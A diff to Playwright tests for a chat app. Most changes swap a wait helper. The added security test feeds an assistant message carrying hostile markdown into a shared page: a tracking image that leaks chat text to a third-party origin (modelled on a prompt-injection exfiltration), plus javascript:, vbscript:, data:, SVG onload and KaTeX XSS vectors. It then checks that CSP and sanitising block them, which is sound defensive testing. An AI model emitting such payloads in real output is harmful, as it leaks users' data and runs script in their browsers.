@@ -8,7 +8,9 @@ from pathlib import Path
 from typing import Any
 
 from chat.tests.live import LiveServer
-from tools.tests.fixtures import text_pdf
+from tools.tests.fixtures import LoopbackServer, text_pdf
+
+from .conftest import wait_until
 
 SPEECH = Path(__file__).resolve().parents[3] / "tools" / "tests" / "data" / "speech.wav"
 LONG = "List the numbers from 1 to 1000 separated by commas."  # with seed 1: thousands of tokens
@@ -59,7 +61,7 @@ def test_send_stream_stop_and_reload(tabs: Any, site: LiveServer) -> None:
     )
     page.fill("#input", LONG)
     page.keyboard.press("Enter")
-    page.wait_for_function(f"({ANSWER_LENGTH})() > 150", timeout=60_000)
+    wait_until(page, f"({ANSWER_LENGTH})() > 150", timeout=60_000)
     lengths = page.evaluate("window.__lengths")
     growing = sorted(set(lengths))
     assert len(growing) >= 3, f"the answer should arrive in pieces, saw lengths {lengths[:20]}"
@@ -71,7 +73,7 @@ def test_send_stream_stop_and_reload(tabs: Any, site: LiveServer) -> None:
     page.wait_for_selector("body[data-ready=true]")
     page.wait_for_selector("article.assistant.streaming", timeout=10_000)
     before = page.evaluate(ANSWER_LENGTH)
-    page.wait_for_function(f"({ANSWER_LENGTH})() > {before + 60}", timeout=30_000)
+    wait_until(page, f"({ANSWER_LENGTH})() > {before + 60}", timeout=30_000)
 
     page.keyboard.press("Escape")  # Esc stops
     page.wait_for_selector("article.assistant:not(.streaming) .status", timeout=15_000)
@@ -163,7 +165,7 @@ def test_pdf_attachment_progress_preview_and_model_view(tabs: Any) -> None:
     pdf = text_pdf(["Ghost ships are real", "The Flying Dutchman", "Fata Morgana"], title="Ghosts")
     page.set_input_files("#file", files=[{"name": "ghosts.pdf", "mimeType": "application/pdf", "buffer": pdf}])
     page.wait_for_selector("#chips .chip:not(.failed)")
-    page.wait_for_function("() => !document.querySelector('#chips progress')", timeout=30_000)
+    wait_until(page, "() => !document.querySelector('#chips progress')", timeout=30_000)
     assert page.evaluate("window.__progress") is True
     page.click("#chips .chip .name")
     page.wait_for_selector("dialog.gg-viewer[open][data-rendered] canvas", timeout=20_000)
@@ -185,7 +187,7 @@ def test_audio_upload_puts_the_transcript_in_the_composer(tabs: Any) -> None:
     page = tab.open("/")
     page.fill("#input", "Notes:")
     page.set_input_files("#file", files=[str(SPEECH)])
-    page.wait_for_function("() => document.getElementById('input').value.length > 30", timeout=60_000)
+    wait_until(page, "() => document.getElementById('input').value.length > 30", timeout=60_000)
     text = page.input_value("#input").lower()
     assert text.startswith("notes:") and "ghost" in text
     assert not page.is_visible("article.user")  # nothing sent: the person edits it first
@@ -204,7 +206,8 @@ def test_drafts_survive_reload_and_scrolling_up_is_never_yanked(tabs: Any) -> No
     long_answer_settings(page)
     page.fill("#input", LONG)
     page.keyboard.press("Enter")
-    page.wait_for_function(
+    wait_until(
+        page,
         "() => { const m = document.getElementById('messages'); return m.scrollHeight > m.clientHeight + 200; }",
         timeout=120_000,
     )
@@ -320,7 +323,59 @@ def test_recording_in_the_browser_is_transcribed(playwright: Any, site: LiveServ
         page.wait_for_selector("#record.recording")
         page.wait_for_timeout(7000)  # the clip is 6.4 s
         page.click("#record")
-        page.wait_for_function("() => document.getElementById('input').value.length > 20", timeout=60_000)
+        wait_until(page, "() => document.getElementById('input').value.length > 20", timeout=60_000)
         assert "ghost" in page.input_value("#input").lower()
     finally:
         browser.close()
+
+
+HOSTILE_MARKDOWN = (
+    "![leak]({tracker}/pixel.png?chat=the-secret-plans) "
+    '<img src="{tracker}/raw.png"> '  # raw HTML: escaped by markdown-it, never an element
+    "[odd](JaVaScRiPt:window.__xss=6) [vb](vbscript:msgbox(1)) "
+    "[page](data:text/html,<script>window.__xss=7</script>)\n\n"
+    "KaTeX: $\\href{{javascript:window.__xss=5}}{{x}}$ and $\\htmlClass{{x}}{{y}}$\n\n"
+    "![svg](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.__xss=8'/>)\n\n"
+    "<svg><script>window.__xss=9</script></svg>\n\n"
+    "```html\n<img src=x onerror=window.__xss=10><script>window.__xss=11</script>\n```\n"
+)
+
+
+def test_pages_send_a_csp_and_answers_cannot_reach_third_party_origins(tabs: Any, site: LiveServer) -> None:
+    tracker = LoopbackServer({})  # another origin: a prompt-injected page's collector
+    try:
+        author = tabs()
+        page = author.open("/")
+        body = [
+            {
+                "conv": {"id": 1, "name": "exfil"},
+                "messages": [{"role": "assistant", "content": HOSTILE_MARKDOWN.format(tracker=tracker.url)}],
+            }
+        ]
+        made = post_json(page, "/api/share", body)
+        assert made["status"] == 201
+        visitor = tabs()
+        response = visitor.page.goto(made["body"]["url"])
+        visitor.page.wait_for_selector("body[data-ready=true]")
+        csp = response.headers["content-security-policy"]
+        assert "img-src 'self' data: blob:" in csp and "script-src 'self' 'nonce-" in csp
+        shared = visitor.page
+        shared.wait_for_timeout(500)
+        assert tracker.hits == [], "the page fetched a third-party image"
+        assert shared.evaluate("window.__xss") is None
+        assert shared.locator("#shared img.blocked-image").count() == 1
+        assert shared.locator("#shared img:not([src])").count() >= 1
+        assert shared.locator("#shared a[href^='javascript' i], #shared a[href^='vbscript' i]").count() == 0
+        assert shared.locator("#shared a[href^='data:' i], #shared script, #shared [onload]").count() == 0
+        assert "<img src=x onerror" in shared.inner_text("#shared pre code")  # shown as code, inert
+        # The policy itself: a script injected without the nonce does not run.
+        shared.evaluate(
+            "() => { const s = document.createElement('script'); s.textContent = 'window.__csp = 1';"
+            " document.body.append(s); }"
+        )
+        assert shared.evaluate("window.__csp") is None
+        visitor.errors[:] = [e for e in visitor.errors if "Content Security Policy" not in e]
+        for path in ("/", "/docs", "/share/no-such-share"):  # the chat, the docs, the HTML 404
+            assert "script-src" in visitor.page.request.get(site.base_url + path).headers["content-security-policy"]
+    finally:
+        tracker.close()
